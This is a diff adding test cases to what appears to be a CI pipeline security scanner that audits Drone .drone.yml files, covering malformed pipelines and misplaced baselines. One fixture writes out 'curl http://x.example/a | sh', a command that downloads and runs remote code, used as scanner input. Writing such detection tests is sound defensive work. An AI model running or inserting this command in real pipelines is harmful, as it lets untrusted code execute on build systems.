@@ -455,6 +455,14 @@ volumes: [{host: {path: "/var/run/docker.sock"}, name: socket}]
     expect(scan(folder, '--diff', 'main', '--pedantic')).toMatchObject({ findings: [], fixed: 0 });
   });
 
+  it('is known as the only item of a list, and without the list', () => {
+    const of = (commands: string): string => pipeline.replace('[make]', commands);
+    const folder = repositoryOf({ '.drone.yml': of('["curl http://x.example/a | sh"]') });
+    commitFiles(folder, { '.drone.yml': of('curl http://x.example/a | sh') });
+    // The list is missed by Drone itself, which is another matter.
+    expect(scan(folder, '--diff', 'main')).toMatchObject({ findings: ['.drone.yml malformed-pipeline'], fixed: 0 });
+  });
+
   it('is new where another value is in it', () => {
     const folder = repositoryOf({ '.drone.yml': before });
     commitFiles(folder, { '.drone.yml': after.replaceAll('/var/run/docker.sock', '/') });
@@ -492,6 +500,16 @@ describe.skipIf(!hasGit)('a place that is hidden as a secret', () => {
     commitFiles(folder, { '.drone.yml': hook('T0FOREIGN/B0FOREIGN', 'aaaaYYYYxxxxWWWWvvvv1234') });
     expect(scan(folder, '--diff', 'main').findings).toContain('.drone.yml hardcoded-secret');
   });
+});
+
+it('a baseline of another folder knows nothing, and that is said', () => {
+  const folder = temporaryFolder();
+  writeFiles(folder, { 'a/.drone.yml': pipeline, 'b/x.txt': '' });
+  scan(join(folder, 'a'), '--write-baseline', '../b/baseline.yml');
+  expect(scan(join(folder, 'a'), '--baseline', '../b/baseline.yml').findings).toEqual([]);
+  expect(scan(folder, 'a', '--baseline', 'b/baseline.yml').problems).toEqual([
+    'b/baseline.yml knows nothing of what is audited: its paths begin in another folder',
+  ]);
 });
 
 describe.skipIf(!hasGit)('one of several places', () => {
